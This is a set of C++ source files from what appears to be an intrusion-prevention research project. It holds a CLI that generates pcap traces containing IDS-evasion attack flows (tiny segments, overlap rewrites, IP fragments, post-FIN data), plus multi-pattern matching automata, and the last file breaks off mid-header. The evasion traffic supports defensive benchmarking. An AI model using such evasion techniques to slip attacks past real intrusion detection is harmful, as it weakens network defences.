    std::printf("%-22s | %-18s | %-18s | %-18s\n", to_string(kind),
                verdict(naive), verdict(conv), verdict(sd));
  }

  std::printf(
      "\nNote: 'conflict alert' means the engine flagged two different\n"
      "contents for the same byte range (the ambiguity itself), which a\n"
      "normalizing IPS treats as an attack.\n");
  return 0;
}
