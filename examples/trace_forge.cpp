// Trace forge: generate calibrated benign or mixed pcap traces with the
// sdt::evasion generator — the tool the benches use, exposed as a CLI.
//
//   $ ./trace_forge out.pcap                      # 1000 benign flows
//   $ ./trace_forge out.pcap 5000                 # 5000 benign flows
//   $ ./trace_forge out.pcap 5000 0.02 tiny       # 2% tiny-segment attacks
//
// Attack kinds: none tiny ooo overlap frag postfin combo
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "evasion/corpus.hpp"
#include "evasion/trace_io.hpp"
#include "evasion/traffic_gen.hpp"
#include "util/stats.hpp"

namespace {

sdt::evasion::EvasionKind parse_kind(const char* s) {
  using K = sdt::evasion::EvasionKind;
  if (std::strcmp(s, "tiny") == 0) return K::tiny_segments;
  if (std::strcmp(s, "ooo") == 0) return K::out_of_order;
  if (std::strcmp(s, "overlap") == 0) return K::overlap_rewrite;
  if (std::strcmp(s, "frag") == 0) return K::ip_tiny_fragments;
  if (std::strcmp(s, "postfin") == 0) return K::post_fin_data;
  if (std::strcmp(s, "combo") == 0) return K::combo_tiny_ooo;
  return K::none;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace sdt;

  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: %s OUT.pcap [FLOWS] [ATTACK_FRACTION] [KIND]\n",
                 argv[0]);
    return 2;
  }
  const std::string out = argv[1];
  evasion::TrafficConfig tc;
  tc.flows = argc > 2 ? static_cast<std::size_t>(std::atoll(argv[2])) : 1000;
  const double attack_fraction = argc > 3 ? std::atof(argv[3]) : 0.0;

  evasion::GeneratedTrace trace;
  if (attack_fraction > 0.0) {
    evasion::AttackMix mix;
    mix.attack_fraction = attack_fraction;
    mix.kind = argc > 4 ? parse_kind(argv[4]) : evasion::EvasionKind::tiny_segments;
    trace = evasion::generate_mixed(tc, evasion::default_corpus(32), mix);
  } else {
    trace = evasion::generate_benign(tc);
  }

  evasion::write_trace(out, trace.packets);
  std::printf("%s: %zu flows (%zu attack), %zu packets, %s on the wire, %s payload\n",
              out.c_str(), trace.flows, trace.attack_flows,
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              human_bytes(static_cast<double>(trace.payload_bytes)).c_str());
  return 0;
}
