// Flat, cache-interleaved dense DFA for the per-packet piece scan.
//
// The automaton is a re-encoding of a built AhoCorasick: one contiguous
// row of 256 packed entries per state, where every entry carries the
// *destination* row offset and the destination's accepting bit:
//
//   Entry = (state << 8) | flags        (bit 0 = accepting)
//
// Because the row stride is 256 and entries are 4 bytes, `state << 8` IS
// the element offset of the destination row — the hot loop is exactly one
// load and one bit test per byte, with no multiply, no layout branch, and
// no second table probe for acceptance:
//
//   e = trans[(e & kRowMask) + b];   hit |= e & kAcceptBit;
//
// contains_any_batch() walks up to kBatchWidth independent buffers in
// lockstep so the (usually cache-missing) row loads of different lanes
// overlap instead of serializing — the software analogue of the paper's
// "the automaton load is the bottleneck, so pipeline flows" argument.
//
// States are capped at 2^24 (flags get the low 8 bits); piece automata are
// thousands of states, so the cap is generous. Builds from either source
// layout, but costs node_count * 256 step() calls on a sparse source.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "match/aho_corasick.hpp"
#include "util/bytes.hpp"

namespace sdt::match {

class FlatDfa {
 public:
  /// Packed cursor/transition: (state << 8) | flags.
  using Entry = std::uint32_t;
  static constexpr Entry kAcceptBit = 1u;
  static constexpr Entry kRowMask = ~Entry{0xffu};
  static constexpr std::size_t kMaxStates = std::size_t{1} << 24;
  /// Lanes walked per loop iteration by contains_any_batch.
  static constexpr std::size_t kBatchWidth = 8;

  FlatDfa() = default;

  /// Re-encode a built automaton. Throws InvalidArgument when the source
  /// exceeds kMaxStates.
  explicit FlatDfa(const AhoCorasick& ac);

  bool empty() const { return states_ == 0; }
  std::size_t state_count() const { return states_; }
  std::size_t memory_bytes() const;

  /// Cursor for the root state (feed to advance()/scan()).
  Entry root() const { return root_; }

  Entry advance(Entry e, std::uint8_t b) const {
    return trans_[(e & kRowMask) + b];
  }
  static bool accepting(Entry e) { return (e & kAcceptBit) != 0; }
  static AhoCorasick::State state_of(Entry e) { return e >> 8; }

  /// Pattern ids ending at state s (suffix outputs merged, ascending).
  std::span<const std::uint32_t> outputs(AhoCorasick::State s) const {
    return {out_ids_.data() + out_begin_[s],
            out_ids_.data() + out_begin_[s + 1]};
  }

  /// Streaming scan from cursor `e`; on_match(AhoCorasick::Match) per
  /// occurrence; returns the cursor after the last byte.
  template <typename Fn>
  Entry scan(ByteView data, Entry e, Fn&& on_match) const {
    if (states_ == 0) return e;  // default-constructed: matches nothing
    const Entry* table = trans_.data();
    for (std::size_t i = 0; i < data.size(); ++i) {
      e = table[(e & kRowMask) + data[i]];
      if (e & kAcceptBit) {
        for (std::uint32_t id : outputs(state_of(e))) {
          on_match(AhoCorasick::Match{id, i + 1});
        }
      }
    }
    return e;
  }

  std::vector<AhoCorasick::Match> find_all(ByteView data) const {
    std::vector<AhoCorasick::Match> ms;
    scan(data, root_, [&](AhoCorasick::Match m) { ms.push_back(m); });
    return ms;
  }

  /// Per-packet verdict from the root; early-exits on the first hit.
  bool contains_any(ByteView data) const {
    if (states_ == 0) return false;
    const Entry* table = trans_.data();
    Entry e = root_;
    for (std::uint8_t b : data) {
      e = table[(e & kRowMask) + b];
      if (e & kAcceptBit) return true;
    }
    return false;
  }

  /// First matching pattern id from the root, or -1.
  std::int64_t first_match(ByteView data) const;

  /// Batched per-packet verdicts: hit[i] = contains_any(data[i]). Keeps up
  /// to kBatchWidth lanes in flight, refilling finished lanes from the
  /// remaining inputs; lanes advance branchlessly (a hit lane accumulates
  /// its verdict and is retired at the next chunk boundary).
  void contains_any_batch(const ByteView* data, std::size_t n,
                          std::uint8_t* hit) const;

 private:
  std::size_t states_ = 0;
  Entry root_ = 0;
  std::vector<Entry> trans_;            // states_ * 256 packed entries
  std::vector<std::uint32_t> out_ids_;  // CSR outputs (report path only)
  std::vector<std::uint32_t> out_begin_;
};

}  // namespace sdt::match
