// Two-byte-prefix SIMD prefilter: the cheap over-approximate stage that
// gates the exact FlatDfa scan (the approximate-NFA staging argument —
// an over-approximation can only add work, never hide a detection).
//
// Compiled per pattern set: a byte position i is a *candidate* iff
// (data[i], data[i+1]) is the 2-byte prefix of some pattern, decided by an
// exact 65536-bit pair bitmap. SIMD kernels (AVX2/SSSE3 shufti on x86,
// NEON tbl on aarch64, scalar everywhere else) pre-screen 16–32 positions
// per iteration with nibble-table class tests before the pair-bitmap
// probe, so benign bytes cost a fraction of a DFA transition.
//
// Candidates are widened to [i, i + max_pattern_len) windows and merged;
// the caller runs the exact automaton only inside windows. Never-miss
// argument: every occurrence of a pattern (all patterns >= 2 bytes, else
// usable() is false and the caller scans everything) starts at a position
// whose first two bytes are that pattern's prefix — a candidate — and the
// window starting there covers the occurrence entirely. The candidate set
// is decided solely by the exact pair bitmap, so verdicts are identical
// across SIMD kernels.
#pragma once

#include <cstdint>
#include <vector>

#include "match/aho_corasick.hpp"
#include "util/bytes.hpp"

namespace sdt::match {

/// Candidate byte range [begin, end) of a scanned buffer.
struct PrefilterWindow {
  std::uint32_t begin;
  std::uint32_t end;
};

class Prefilter {
 public:
  Prefilter() = default;

  /// Compile from the pattern set of a built automaton.
  explicit Prefilter(const AhoCorasick& ac);

  /// False when the set cannot be prefiltered (no patterns, or a pattern
  /// shorter than 2 bytes): the caller must scan everything itself.
  bool usable() const { return usable_; }
  std::size_t max_pattern_len() const { return max_len_; }
  std::size_t memory_bytes() const;

  /// Which SIMD kernel the runtime dispatch selected ("avx2", "ssse3",
  /// "neon", or "scalar").
  const char* kernel_name() const;

  /// Append merged candidate windows for `data` (requires usable()).
  /// Guarantee: every pattern occurrence in `data` lies entirely inside
  /// one appended window. Returns the number of candidate positions.
  std::size_t windows(ByteView data, std::vector<PrefilterWindow>& out) const;

  /// Whole-buffer verdict without materializing windows: false means no
  /// pattern can occur (requires usable()). Scalar; for tests/benches.
  bool may_contain(ByteView data) const;

 private:
  enum class Kernel : std::uint8_t { scalar, ssse3, avx2, neon };

  bool first_bit(std::uint8_t b) const {
    return (first_[b >> 6] >> (b & 63)) & 1u;
  }
  bool second_bit(std::uint8_t b) const {
    return (second_[b >> 6] >> (b & 63)) & 1u;
  }
  bool pair_bit(std::uint8_t a, std::uint8_t b) const {
    const std::uint32_t p = (std::uint32_t{a} << 8) | b;
    return (pair_[p >> 6] >> (p & 63)) & 1u;
  }

  bool usable_ = false;
  std::size_t max_len_ = 0;
  Kernel kernel_ = Kernel::scalar;
  std::uint64_t first_[4] = {0, 0, 0, 0};   // exact first-byte membership
  std::uint64_t second_[4] = {0, 0, 0, 0};  // exact second-byte membership
  std::vector<std::uint64_t> pair_;         // exact 2-byte-prefix bitmap (8 KiB)
  // Shufti nibble tables for the SIMD pre-screen: lo_first[16], lo_second[16].
  std::uint8_t shufti_[32] = {};
};

}  // namespace sdt::match
