#include "match/flat_dfa.hpp"

#include <algorithm>

#include "util/error.hpp"

namespace sdt::match {

FlatDfa::FlatDfa(const AhoCorasick& ac) {
  const std::size_t n = ac.state_count();
  if (n == 0) return;
  if (n > kMaxStates) {
    throw InvalidArgument("FlatDfa: too many states for packed encoding");
  }
  states_ = n;
  trans_.resize(n * 256);
  out_begin_.resize(n + 1, 0);
  for (std::size_t s = 0; s < n; ++s) {
    out_begin_[s + 1] =
        out_begin_[s] + static_cast<std::uint32_t>(ac.out_[s].size());
  }
  out_ids_.reserve(out_begin_[n]);
  for (std::size_t s = 0; s < n; ++s) {
    out_ids_.insert(out_ids_.end(), ac.out_[s].begin(), ac.out_[s].end());
  }
  for (std::size_t s = 0; s < n; ++s) {
    const std::size_t base = s * 256;
    for (std::size_t b = 0; b < 256; ++b) {
      const AhoCorasick::State ns =
          ac.step(static_cast<AhoCorasick::State>(s),
                  static_cast<std::uint8_t>(b));
      trans_[base + b] = (Entry{ns} << 8) | (ac.accepting(ns) ? kAcceptBit : 0);
    }
  }
  root_ = (Entry{AhoCorasick::kRoot} << 8) |
          (ac.accepting(AhoCorasick::kRoot) ? kAcceptBit : 0);
}

std::int64_t FlatDfa::first_match(ByteView data) const {
  if (states_ == 0) return -1;
  const Entry* table = trans_.data();
  Entry e = root_;
  for (std::uint8_t b : data) {
    e = table[(e & kRowMask) + b];
    if (e & kAcceptBit) return out_ids_[out_begin_[state_of(e)]];
  }
  return -1;
}

void FlatDfa::contains_any_batch(const ByteView* data, std::size_t n,
                                 std::uint8_t* hit) const {
  if (n == 0) return;
  if (states_ == 0) {
    std::fill(hit, hit + n, std::uint8_t{0});
    return;
  }
  // Lanes are retired (hit recorded) when exhausted or once their verdict
  // is known at a chunk boundary; kChunkCap bounds the wasted lockstep
  // bytes a hit lane can burn before retirement.
  constexpr std::size_t kChunkCap = 256;
  const Entry* table = trans_.data();
  const std::uint8_t* ptr[kBatchWidth];
  const std::uint8_t* end[kBatchWidth];
  Entry cur[kBatchWidth];
  Entry acc[kBatchWidth];
  std::size_t slot[kBatchWidth];  // output index owned by this lane
  std::size_t active = 0;
  std::size_t next = 0;

  const auto refill = [&](std::size_t w) -> bool {
    while (next < n) {
      const std::size_t i = next++;
      if (data[i].empty()) {
        hit[i] = 0;
        continue;
      }
      ptr[w] = data[i].data();
      end[w] = ptr[w] + data[i].size();
      cur[w] = root_;
      // Seed 0, not root_ & kAcceptBit: the scalar contains_any never
      // tests the root before consuming a byte, and batch must agree
      // byte-for-byte even if a future automaton made the root accepting.
      acc[w] = 0;
      slot[w] = i;
      return true;
    }
    return false;
  };

  while (active < kBatchWidth && refill(active)) ++active;

  while (active > 0) {
    std::size_t m = kChunkCap;
    for (std::size_t w = 0; w < active; ++w) {
      m = std::min(m, static_cast<std::size_t>(end[w] - ptr[w]));
    }
    for (std::size_t j = 0; j < m; ++j) {
      for (std::size_t w = 0; w < active; ++w) {
        cur[w] = table[(cur[w] & kRowMask) + *ptr[w]];
        ++ptr[w];
        acc[w] |= cur[w] & kAcceptBit;
      }
    }
    for (std::size_t w = 0; w < active;) {
      if (acc[w] != 0 || ptr[w] == end[w]) {
        hit[slot[w]] = acc[w] != 0 ? 1 : 0;
        if (!refill(w)) {
          --active;
          ptr[w] = ptr[active];
          end[w] = end[active];
          cur[w] = cur[active];
          acc[w] = acc[active];
          slot[w] = slot[active];
          continue;  // re-examine the lane just moved into w
        }
      }
      ++w;
    }
  }
}

std::size_t FlatDfa::memory_bytes() const {
  return sizeof(*this) + trans_.capacity() * sizeof(Entry) +
         out_ids_.capacity() * sizeof(std::uint32_t) +
         out_begin_.capacity() * sizeof(std::uint32_t);
}

}  // namespace sdt::match
