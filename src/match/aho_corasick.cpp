#include "match/aho_corasick.hpp"

#include <algorithm>
#include <cstring>
#include <deque>
#include <map>

#include "util/error.hpp"
#include "util/hash.hpp"

namespace sdt::match {

namespace {

/// Build-time trie node: ordered edge map (becomes the sparse layout) plus
/// the pattern ids terminating exactly here.
struct TrieNode {
  std::map<std::uint8_t, std::uint32_t> next;
  std::vector<std::uint32_t> ends;
  std::uint32_t fail = 0;
};

}  // namespace

std::uint32_t AhoCorasick::Builder::add(ByteView pattern) {
  if (pattern.empty()) {
    throw InvalidArgument("AhoCorasick: empty pattern");
  }
  patterns_.emplace_back(pattern.begin(), pattern.end());
  return static_cast<std::uint32_t>(patterns_.size() - 1);
}

AhoCorasick AhoCorasick::Builder::build(AcLayout layout) const {
  std::vector<TrieNode> trie(1);

  for (std::uint32_t id = 0; id < patterns_.size(); ++id) {
    std::uint32_t s = 0;
    for (std::uint8_t b : patterns_[id]) {
      auto it = trie[s].next.find(b);
      if (it == trie[s].next.end()) {
        trie.emplace_back();
        it = trie[s].next.emplace(b, static_cast<std::uint32_t>(trie.size() - 1))
                 .first;
      }
      s = it->second;
    }
    trie[s].ends.push_back(id);
  }

  // BFS failure links; merge suffix outputs so out(s) is complete.
  std::deque<std::uint32_t> queue;
  for (auto& [b, nxt] : trie[0].next) {
    trie[nxt].fail = 0;
    queue.push_back(nxt);
  }
  while (!queue.empty()) {
    const std::uint32_t s = queue.front();
    queue.pop_front();
    for (auto& [b, nxt] : trie[s].next) {
      std::uint32_t f = trie[s].fail;
      while (f != 0 && trie[f].next.find(b) == trie[f].next.end()) {
        f = trie[f].fail;
      }
      auto it = trie[f].next.find(b);
      const std::uint32_t target =
          (it != trie[f].next.end() && it->second != nxt) ? it->second : 0;
      trie[nxt].fail = target;
      const auto& inherited = trie[target].ends;
      trie[nxt].ends.insert(trie[nxt].ends.end(), inherited.begin(),
                            inherited.end());
      queue.push_back(nxt);
    }
  }

  AhoCorasick ac;
  ac.layout_ = layout;
  ac.node_count_ = trie.size();
  ac.patterns_ = patterns_;
  ac.out_.resize(trie.size());
  for (std::size_t i = 0; i < trie.size(); ++i) {
    ac.out_[i] = trie[i].ends;
    std::sort(ac.out_[i].begin(), ac.out_[i].end());
  }

  if (layout == AcLayout::dense_dfa) {
    // Close the automaton into a DFA: next-state defined for every byte.
    ac.dense_.assign(trie.size() * 256, kRoot);
    std::deque<std::uint32_t> bfs;
    for (int b = 0; b < 256; ++b) {
      auto it = trie[0].next.find(static_cast<std::uint8_t>(b));
      ac.dense_[static_cast<std::size_t>(b)] =
          it != trie[0].next.end() ? it->second : 0;
    }
    for (auto& [b, nxt] : trie[0].next) bfs.push_back(nxt);
    while (!bfs.empty()) {
      const std::uint32_t s = bfs.front();
      bfs.pop_front();
      const std::size_t base = std::size_t{s} * 256;
      const std::size_t fail_base = std::size_t{trie[s].fail} * 256;
      for (int b = 0; b < 256; ++b) {
        auto it = trie[s].next.find(static_cast<std::uint8_t>(b));
        if (it != trie[s].next.end()) {
          ac.dense_[base + static_cast<std::size_t>(b)] = it->second;
          bfs.push_back(it->second);
        } else {
          ac.dense_[base + static_cast<std::size_t>(b)] =
              ac.dense_[fail_base + static_cast<std::size_t>(b)];
        }
      }
    }
  } else {
    ac.sparse_.resize(trie.size());
    for (std::size_t i = 0; i < trie.size(); ++i) {
      ac.sparse_[i].fail = trie[i].fail;
      ac.sparse_[i].edges_begin = static_cast<std::uint32_t>(ac.edge_bytes_.size());
      ac.sparse_[i].edge_count = static_cast<std::uint16_t>(trie[i].next.size());
      for (auto& [b, nxt] : trie[i].next) {
        ac.edge_bytes_.push_back(b);
        ac.edge_next_.push_back(nxt);
      }
    }
  }

  ac.rebuild_accept_bits();
  return ac;
}

ByteView AhoCorasick::pattern(std::uint32_t id) const {
  if (id >= patterns_.size()) {
    throw InvalidArgument("AhoCorasick: pattern id out of range");
  }
  return patterns_[id];
}

const std::vector<std::uint32_t>& AhoCorasick::outputs(State s) const {
  if (s >= node_count_) {
    throw InvalidArgument("AhoCorasick: state out of range");
  }
  return out_[s];
}

void AhoCorasick::rebuild_accept_bits() {
  accept_.assign((node_count_ + 63) / 64, 0);
  for (std::size_t s = 0; s < node_count_; ++s) {
    if (!out_[s].empty()) accept_[s >> 6] |= std::uint64_t{1} << (s & 63);
  }
}

AhoCorasick::State AhoCorasick::step_sparse(State s, std::uint8_t b) const {
  for (;;) {
    const SparseNode& n = sparse_[s];
    const auto* begin = edge_bytes_.data() + n.edges_begin;
    const auto* end = begin + n.edge_count;
    const auto* it = std::lower_bound(begin, end, b);
    if (it != end && *it == b) {
      return edge_next_[n.edges_begin +
                        static_cast<std::uint32_t>(it - begin)];
    }
    if (s == kRoot) return kRoot;
    s = n.fail;
  }
}

namespace {
// Blob layout: magic, layout byte, counts, patterns, outputs, transitions,
// FNV-64 of everything after the magic.
constexpr char kAcMagic[8] = {'S', 'D', 'T', 'A', 'C', '0', '0', '1'};
}  // namespace

Bytes AhoCorasick::serialize() const {
  ByteWriter w;
  w.bytes(ByteView(reinterpret_cast<const std::uint8_t*>(kAcMagic), 8));
  w.u8(static_cast<std::uint8_t>(layout_));
  w.u32le(static_cast<std::uint32_t>(node_count_));
  w.u32le(static_cast<std::uint32_t>(patterns_.size()));
  for (const Bytes& p : patterns_) {
    w.u32le(static_cast<std::uint32_t>(p.size()));
    w.bytes(p);
  }
  for (const auto& o : out_) {
    w.u32le(static_cast<std::uint32_t>(o.size()));
    for (std::uint32_t id : o) w.u32le(id);
  }
  if (layout_ == AcLayout::dense_dfa) {
    for (State s : dense_) w.u32le(s);
  } else {
    for (const SparseNode& n : sparse_) {
      w.u32le(n.edges_begin);
      w.u16le(n.edge_count);
      w.u32le(n.fail);
    }
    w.u32le(static_cast<std::uint32_t>(edge_bytes_.size()));
    w.bytes(edge_bytes_);
    for (State s : edge_next_) w.u32le(s);
  }
  const std::uint64_t digest = fnv1a64(w.view().subspan(8));
  ByteWriter tail;
  tail.u32le(static_cast<std::uint32_t>(digest & 0xffffffff));
  tail.u32le(static_cast<std::uint32_t>(digest >> 32));
  Bytes out = w.take();
  const Bytes t = tail.take();
  out.insert(out.end(), t.begin(), t.end());
  return out;
}

AhoCorasick AhoCorasick::deserialize(ByteView blob) {
  if (blob.size() < 8 + 8 ||
      std::memcmp(blob.data(), kAcMagic, 8) != 0) {
    throw ParseError("AhoCorasick: bad blob magic/size");
  }
  const ByteView payload = blob.subspan(8, blob.size() - 16);
  const ByteView digest_bytes = blob.subspan(blob.size() - 8);
  const std::uint64_t want =
      std::uint64_t{rd_u8(digest_bytes, 0)} |
      std::uint64_t{digest_bytes[1]} << 8 | std::uint64_t{digest_bytes[2]} << 16 |
      std::uint64_t{digest_bytes[3]} << 24 | std::uint64_t{digest_bytes[4]} << 32 |
      std::uint64_t{digest_bytes[5]} << 40 | std::uint64_t{digest_bytes[6]} << 48 |
      std::uint64_t{digest_bytes[7]} << 56;
  if (fnv1a64(payload) != want) {
    throw ParseError("AhoCorasick: blob integrity check failed");
  }

  ByteReader r(payload);
  AhoCorasick ac;
  const std::uint8_t layout = r.u8();
  if (layout > 1) throw ParseError("AhoCorasick: unknown layout");
  ac.layout_ = static_cast<AcLayout>(layout);
  ac.node_count_ = r.u32le();
  const std::uint32_t npat = r.u32le();
  if (ac.node_count_ > (1u << 28) || npat > (1u << 24)) {
    throw ParseError("AhoCorasick: implausible blob counts");
  }
  ac.patterns_.reserve(npat);
  for (std::uint32_t i = 0; i < npat; ++i) {
    const std::uint32_t len = r.u32le();
    const ByteView p = r.bytes(len);
    ac.patterns_.emplace_back(p.begin(), p.end());
  }
  ac.out_.resize(ac.node_count_);
  for (auto& o : ac.out_) {
    const std::uint32_t n = r.u32le();
    if (n > npat) throw ParseError("AhoCorasick: bad output list");
    o.reserve(n);
    for (std::uint32_t i = 0; i < n; ++i) {
      const std::uint32_t id = r.u32le();
      if (id >= npat) throw ParseError("AhoCorasick: bad pattern id");
      o.push_back(id);
    }
  }
  if (ac.layout_ == AcLayout::dense_dfa) {
    ac.dense_.resize(ac.node_count_ * 256);
    for (auto& s : ac.dense_) {
      s = r.u32le();
      if (s >= ac.node_count_) throw ParseError("AhoCorasick: bad state");
    }
  } else {
    ac.sparse_.resize(ac.node_count_);
    for (auto& n : ac.sparse_) {
      n.edges_begin = r.u32le();
      n.edge_count = r.u16le();
      n.fail = r.u32le();
      if (n.fail >= ac.node_count_) throw ParseError("AhoCorasick: bad fail");
    }
    const std::uint32_t nedges = r.u32le();
    const ByteView eb = r.bytes(nedges);
    ac.edge_bytes_.assign(eb.begin(), eb.end());
    ac.edge_next_.resize(nedges);
    for (auto& s : ac.edge_next_) {
      s = r.u32le();
      if (s >= ac.node_count_) throw ParseError("AhoCorasick: bad edge state");
    }
    for (const auto& n : ac.sparse_) {
      if (std::size_t{n.edges_begin} + n.edge_count > nedges) {
        throw ParseError("AhoCorasick: edge range out of bounds");
      }
    }
  }
  if (r.remaining() != 0) throw ParseError("AhoCorasick: trailing bytes");
  ac.rebuild_accept_bits();
  return ac;
}

std::size_t AhoCorasick::memory_bytes() const {
  std::size_t n = sizeof(*this);
  n += accept_.capacity() * sizeof(std::uint64_t);
  n += dense_.capacity() * sizeof(State);
  n += sparse_.capacity() * sizeof(SparseNode);
  n += edge_bytes_.capacity();
  n += edge_next_.capacity() * sizeof(State);
  for (const auto& o : out_) n += sizeof(o) + o.capacity() * sizeof(std::uint32_t);
  for (const auto& p : patterns_) n += sizeof(p) + p.capacity();
  return n;
}

}  // namespace sdt::match
