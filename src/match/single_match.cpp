#include "match/single_match.hpp"

#include <cstring>

#include "util/error.hpp"

namespace sdt::match {

Bmh::Bmh(ByteView pattern) : pattern_(pattern.begin(), pattern.end()) {
  if (pattern_.empty()) throw InvalidArgument("Bmh: empty pattern");
  const std::size_t m = pattern_.size();
  skip_.fill(m);
  for (std::size_t i = 0; i + 1 < m; ++i) {
    skip_[pattern_[i]] = m - 1 - i;
  }
}

std::optional<std::size_t> Bmh::find(ByteView haystack, std::size_t from) const {
  const std::size_t m = pattern_.size();
  const std::size_t n = haystack.size();
  if (n < m || from > n - m) return std::nullopt;
  std::size_t pos = from;
  while (pos + m <= n) {
    if (haystack[pos + m - 1] == pattern_[m - 1] &&
        std::memcmp(haystack.data() + pos, pattern_.data(), m - 1) == 0) {
      return pos;
    }
    pos += skip_[haystack[pos + m - 1]];
  }
  return std::nullopt;
}

std::vector<std::size_t> Bmh::find_all(ByteView haystack) const {
  std::vector<std::size_t> out;
  std::size_t from = 0;
  while (auto p = find(haystack, from)) {
    out.push_back(*p);
    from = *p + 1;
  }
  return out;
}

std::vector<std::size_t> naive_find_all(ByteView haystack, ByteView needle) {
  std::vector<std::size_t> out;
  if (needle.empty() || haystack.size() < needle.size()) return out;
  for (std::size_t i = 0; i + needle.size() <= haystack.size(); ++i) {
    if (std::memcmp(haystack.data() + i, needle.data(), needle.size()) == 0) {
      out.push_back(i);
    }
  }
  return out;
}

}  // namespace sdt::match
