// Single-pattern search: Boyer-Moore-Horspool (slow-path verification of a
// specific signature) and a naive scan (test oracle).
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "util/bytes.hpp"

namespace sdt::match {

/// Boyer-Moore-Horspool matcher for one pattern. Construction precomputes
/// the bad-character skip table; the pattern bytes are copied.
class Bmh {
 public:
  explicit Bmh(ByteView pattern);

  ByteView pattern() const { return pattern_; }

  /// Offset of the first occurrence at or after `from`, or nullopt.
  std::optional<std::size_t> find(ByteView haystack, std::size_t from = 0) const;

  /// All (possibly overlapping) occurrence offsets.
  std::vector<std::size_t> find_all(ByteView haystack) const;

  bool contains(ByteView haystack) const { return find(haystack).has_value(); }

 private:
  Bytes pattern_;
  std::array<std::size_t, 256> skip_{};
};

/// Naive O(n*m) search — the reference oracle for property tests.
std::vector<std::size_t> naive_find_all(ByteView haystack, ByteView needle);

}  // namespace sdt::match
