// Multi-pattern exact string matching: Aho-Corasick automaton.
//
// Two state layouts are provided because the paper's feasibility argument is
// about the memory/speed trade-off of the fast-path matcher:
//   * dense_dfa   — full 256-way next-state table per state (one load per
//                   byte; the layout a line-rate implementation uses);
//   * sparse_nfa  — per-state sorted (byte -> next) edges plus failure
//                   links (compact; several probes per byte).
// memory_bytes() reports the true footprint of the chosen layout, which the
// E6 automaton-size experiment sweeps.
//
// The matcher is streaming: scanning resumes from a caller-held State, so
// the conventional IPS can match across segment boundaries of a reassembled
// stream while the Split-Detect fast path deliberately restarts at kRoot for
// every packet (that is the point of the paper).
//
// Hot-loop notes: the layout decision is hoisted out of every scan loop
// (scan/contains_any/first_match dispatch once, then run a specialized
// body), and accepting() is a bitset probe — one load + one bit test —
// rather than a vector-of-vectors size check. The per-state output lists
// survive only on the match-report path (outputs()/scan callbacks).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/bytes.hpp"

namespace sdt::match {

enum class AcLayout : std::uint8_t {
  dense_dfa,
  sparse_nfa,
};

class AhoCorasick {
 public:
  using State = std::uint32_t;
  static constexpr State kRoot = 0;

  /// A pattern occurrence: pattern(id) ends at data[end_offset - 1].
  struct Match {
    std::uint32_t pattern_id;
    std::size_t end_offset;
  };

  /// Incrementally assemble the pattern set, then build().
  class Builder {
   public:
    /// Returns the id the matcher will report for this pattern.
    /// Empty patterns are rejected (InvalidArgument). Duplicate byte strings
    /// get distinct ids and are all reported.
    std::uint32_t add(ByteView pattern);

    std::size_t pattern_count() const { return patterns_.size(); }

    AhoCorasick build(AcLayout layout = AcLayout::dense_dfa) const;

   private:
    std::vector<Bytes> patterns_;
  };

  AhoCorasick() = default;

  std::size_t pattern_count() const { return patterns_.size(); }
  std::size_t state_count() const { return node_count_; }
  AcLayout layout() const { return layout_; }

  /// Pattern bytes for a reported id. Throws InvalidArgument on an
  /// out-of-range id (a corrupted ruleset must fail loudly, not read OOB).
  ByteView pattern(std::uint32_t id) const;

  /// Bytes held by the automaton (transition structures + output lists +
  /// pattern copies).
  std::size_t memory_bytes() const;

  /// Advance one byte from state s. (Per-byte layout dispatch — fine for
  /// incidental callers; the scan loops below specialize instead.)
  State step(State s, std::uint8_t b) const {
    return layout_ == AcLayout::dense_dfa ? step_dense(s, b) : step_sparse(s, b);
  }

  /// True if any pattern ends in state s: one load + one bit test.
  bool accepting(State s) const {
    return (accept_[s >> 6] >> (s & 63)) & 1u;
  }

  /// Pattern ids ending at state s (includes suffix-pattern outputs).
  /// Throws InvalidArgument on an out-of-range state.
  const std::vector<std::uint32_t>& outputs(State s) const;

  /// Scan data starting from `s`; call on_match(Match) for every occurrence;
  /// return the state after the last byte (feed it back in to continue the
  /// stream).
  template <typename Fn>
  State scan(ByteView data, State s, Fn&& on_match) const {
    if (layout_ == AcLayout::dense_dfa) {
      const State* table = dense_.data();
      for (std::size_t i = 0; i < data.size(); ++i) {
        s = table[std::size_t{s} * 256 + data[i]];
        if (accepting(s)) emit(s, i + 1, on_match);
      }
    } else {
      for (std::size_t i = 0; i < data.size(); ++i) {
        s = step_sparse(s, data[i]);
        if (accepting(s)) emit(s, i + 1, on_match);
      }
    }
    return s;
  }

  /// Collect all matches in one buffer (convenience for tests/slow path).
  std::vector<Match> find_all(ByteView data) const {
    std::vector<Match> ms;
    scan(data, kRoot, [&](Match m) { ms.push_back(m); });
    return ms;
  }

  /// Per-packet mode: does this buffer contain any pattern? Early-exits on
  /// the first hit; always starts from the root (no cross-packet state).
  bool contains_any(ByteView data) const {
    State s = kRoot;
    if (layout_ == AcLayout::dense_dfa) {
      const State* table = dense_.data();
      for (std::uint8_t b : data) {
        s = table[std::size_t{s} * 256 + b];
        if (accepting(s)) return true;
      }
    } else {
      for (std::uint8_t b : data) {
        s = step_sparse(s, b);
        if (accepting(s)) return true;
      }
    }
    return false;
  }

  /// Per-packet mode returning the first matching pattern id, or -1.
  std::int64_t first_match(ByteView data) const {
    State s = kRoot;
    if (layout_ == AcLayout::dense_dfa) {
      const State* table = dense_.data();
      for (std::uint8_t b : data) {
        s = table[std::size_t{s} * 256 + b];
        if (accepting(s)) return out_[s].front();
      }
    } else {
      for (std::uint8_t b : data) {
        s = step_sparse(s, b);
        if (accepting(s)) return out_[s].front();
      }
    }
    return -1;
  }

  /// Serialize the compiled automaton to a self-contained blob (versioned,
  /// integrity-checked). The deployment story: compile the rule base
  /// offline, ship the blob to the line card, load in O(size).
  Bytes serialize() const;

  /// Rebuild from a serialize() blob. Throws ParseError on version
  /// mismatch, truncation or corruption (FNV integrity check).
  static AhoCorasick deserialize(ByteView blob);

 private:
  friend class Builder;
  friend class FlatDfa;

  template <typename Fn>
  void emit(State s, std::size_t end_offset, Fn&& on_match) const {
    for (std::uint32_t id : out_[s]) {
      on_match(Match{id, end_offset});
    }
  }

